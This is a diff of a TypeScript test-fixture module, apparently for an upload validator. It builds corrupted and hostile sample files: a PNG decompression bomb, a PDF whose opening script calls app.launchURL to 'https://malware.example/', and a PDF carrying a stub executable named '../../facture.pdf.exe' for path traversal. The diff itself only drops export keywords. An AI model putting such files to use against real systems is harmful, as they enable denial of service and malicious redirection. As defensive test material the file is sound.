@@ -38,17 +38,17 @@ export function sampleBytes(file: string): Promise<Buffer> {
 }
 
 /** The first `share` (0–1) of a file: an upload that broke off. */
-export function truncated(bytes: Uint8Array, share: number): Uint8Array {
+function truncated(bytes: Uint8Array, share: number): Uint8Array {
   return bytes.subarray(0, Math.floor(bytes.length * share));
 }
 
 /** One bit turned in every `step`th byte from `from` on: a rotten disk. */
-export function bitFlipped(bytes: Uint8Array, from: number, step: number): Uint8Array {
+function bitFlipped(bytes: Uint8Array, from: number, step: number): Uint8Array {
   return bytes.map((byte, at) => (at >= from && (at - from) % step === 0 ? byte ^ 0x10 : byte));
 }
 
 /** A valid one-bit PNG of any size, a thousandth of its pixels in bytes: a decompression bomb. */
-export async function blankPng(width: number, height: number): Promise<Uint8Array> {
+async function blankPng(width: number, height: number): Promise<Uint8Array> {
   const header = Buffer.alloc(13);
   header.writeUInt32BE(width, 0);
   header.writeUInt32BE(height, 4);
@@ -78,7 +78,7 @@ function pngChunk(type: string, data: Buffer): Buffer {
 }
 
 /** Our invoice with a script that runs on opening, by both ways that PDF has. */
-export async function pdfWithJavaScript(): Promise<Uint8Array> {
+async function pdfWithJavaScript(): Promise<Uint8Array> {
   const pdf = await loaded();
   const script = "app.alert('Bonjour'); app.launchURL('https://malware.example/', true);";
   pdf.addJavaScript('demarrage', script);
@@ -90,7 +90,7 @@ export async function pdfWithJavaScript(): Promise<Uint8Array> {
 }
 
 /** Our invoice carrying a file that has no business there. */
-export async function pdfWithEmbeddedFile(): Promise<Uint8Array> {
+async function pdfWithEmbeddedFile(): Promise<Uint8Array> {
   const pdf = await loaded();
   const madeOn = new Date('2026-01-05T09:00:00Z');
   await pdf.attach(windowsProgram(), '../../facture.pdf.exe', {
@@ -106,14 +106,14 @@ async function loaded(): Promise<PDFDocument> {
 }
 
 /** The headers of a 64-bit Linux program, then nothing that runs. */
-export function linuxProgram(): Uint8Array {
+function linuxProgram(): Uint8Array {
   const header = Buffer.alloc(512);
   Buffer.from('7f454c460201010000000000000000000200b70001000000', 'hex').copy(header);
   return header;
 }
 
 /** The headers of a Windows program, then nothing that runs. */
-export function windowsProgram(): Uint8Array {
+function windowsProgram(): Uint8Array {
   const header = Buffer.alloc(512);
   header.write('MZ', 0, 'latin1');
   header.writeUInt32LE(128, 60);
